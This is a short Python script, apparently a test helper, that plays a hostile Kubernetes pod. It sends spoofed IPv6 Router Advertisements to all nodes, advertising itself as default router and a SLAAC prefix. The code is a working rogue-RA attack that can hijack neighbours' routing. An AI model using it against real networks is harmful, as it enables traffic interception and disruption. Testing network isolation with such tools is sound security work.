"""Plays a hostile pod: sends one IPv6 Router Advertisement out of IFNAME to all nodes (ff02::1).

Usage: send-ra.py IFNAME SOURCE_LINK_LOCAL PREFIX
It advertises itself as a default router (lifetime 1800 s) and PREFIX/64 as on-link and
autonomous (SLAAC), which a node that accepts it would turn into a default route, a prefix
route and an address. Run inside the pod's netns.
"""
import ipaddress
import socket
import struct
import sys

ifname, source, prefix = sys.argv[1], sys.argv[2], sys.argv[3]
index = socket.if_nametoindex(ifname)

# Type 134, code 0, checksum (the kernel fills it in for ICMPv6 raw sockets), hop limit 64,
# no M/O flags, router lifetime 1800 s, reachable 0, retransmit 0.
ra = struct.pack('!BBHBBHII', 134, 0, 0, 64, 0, 1800, 0, 0)
# Prefix information: type 3, 4×8 bytes, /64, L and A flags, valid 1 day, preferred 4 h.
ra += struct.pack('!BBBBIII', 3, 4, 64, 0xC0, 86400, 14400, 0) + ipaddress.IPv6Address(prefix).packed

s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)  # RAs are dropped unless hop limit 255
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
s.bind((source, 0, 0, index))
for _ in range(3):
    s.sendto(ra, ('ff02::1', 0, 0, index))
